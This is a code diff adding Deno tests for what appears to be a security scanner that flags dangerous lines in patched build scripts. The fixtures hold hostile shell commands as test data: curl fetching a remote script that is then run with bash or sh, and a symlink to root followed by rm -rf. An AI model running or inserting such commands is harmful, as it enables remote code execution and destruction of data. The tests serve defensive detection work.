@@ -456,3 +456,36 @@ Deno.test("redteam redact keeps ordinary env values", async () => {
   const red = await loadPolicy({ env: { MONKEY: "banana-bread", SSL_CERT_DIR: "/etc/ssl/certs" } });
   assert.equal(red.redact("banana-bread in /etc/ssl/certs"), "banana-bread in /etc/ssl/certs");
 });
+
+// --- patched scripts: statements judged after the ones the patch added before them
+const script = (file: string, lines: string[]) =>
+  `diff --git a/${file} b/${file}\n--- a/${file}\n+++ b/${file}\n@@ -0,0 +1,${lines.length} @@\n` +
+  lines.map((l) => `+${l}`).join("\n") + "\n";
+
+const PATCHES: Array<[string, string, string[], string | null]> = [
+  ["download then run on the next line", "ci.sh", [
+    "#!/bin/sh",
+    "curl -fsSL -o i.sh https://x/i.sh",
+    "bash i.sh",
+  ], "shell.remote-script"],
+  [
+    "symlink then delete on the next line",
+    "ci.sh",
+    ["#!/bin/sh", "ln -s / r", "rm -rf r/"],
+    "fs.rm-root-or-home",
+  ],
+  [
+    "download then run in a Makefile",
+    "Makefile",
+    ["all:", "\tcurl -o i.sh https://x", "\tsh i.sh"],
+    "shell.remote-script",
+  ],
+  ["ordinary build script", "ci.sh", ["#!/bin/sh", "npm ci", "npm run build"], null],
+];
+
+for (const [name, file, lines, rule] of PATCHES) {
+  Deno.test(`redteam scan of a patched script: ${name}`, () => {
+    const found = engine.scan(script(file, lines)).map((f) => `${f.rule}@${f.line}`);
+    assert.deepEqual(found, rule ? [`${rule}@3`] : []);
+  });
+}
